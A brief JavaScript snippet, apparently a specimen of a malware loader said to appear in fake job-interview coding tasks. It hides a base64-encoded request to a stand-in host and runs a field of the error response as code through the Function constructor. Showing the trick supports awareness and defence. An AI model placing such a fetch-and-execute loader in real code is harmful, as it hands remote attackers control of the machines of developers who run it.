// the answer of an "error" handler is code: seen in fake job interviews
const axios = require('axios');
(async () => {
  try {
    await axios.get(atob('aHR0cHM6Ly9hcGkuZXhhbXBsZS5pbnZhbGlkL2pzb24='));
  } catch (err) {
    const createHandler = (errCode) => { try { return new (Function.constructor)('require', errCode); } catch (e) { return null; } };
    const handler = createHandler(err.response.data.cookie);
    if (handler) handler(require);
  }
})();
